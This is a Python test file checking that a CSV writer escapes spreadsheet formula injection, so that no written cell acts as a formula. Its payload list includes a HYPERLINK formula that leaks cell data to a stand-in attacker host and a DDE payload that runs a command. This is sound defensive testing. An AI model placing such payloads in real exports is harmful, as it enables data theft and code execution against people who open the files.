"""What is written for spreadsheets: no cell of it is a formula, and nothing of a cell is lost."""

import csv
from pathlib import Path

import pytest

from rekindle.cli.deciding import write_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Ada")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=1+1";=1+1', "＝1+1", "＋1", "－1", "＠SUM(1)",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_is_never_a_formula(tmp_path: Path, text: str) -> None:
    file = tmp_path / "out.csv"
    write_csv(file, ("customer", "text"), [{"customer": text, "text": f"Hello {text}"}])
    with file.open(encoding="utf-8", newline="") as written:
        _, row = csv.reader(written)
    assert row == [f"'{text}", f"Hello {text}"]


@pytest.mark.parametrize("value", ["Ada", "", 'a "quoted", cell', "two\nlines", -3, 0.5, None])
def test_any_other_cell_is_as_it_was(tmp_path: Path, value: object) -> None:
    file = tmp_path / "out.csv"
    write_csv(file, ("a", "b"), [{"a": value, "b": "x"}])
    with file.open(encoding="utf-8", newline="") as written:
        _, row = csv.reader(written)
    assert row == ["" if value is None else str(value), "x"]
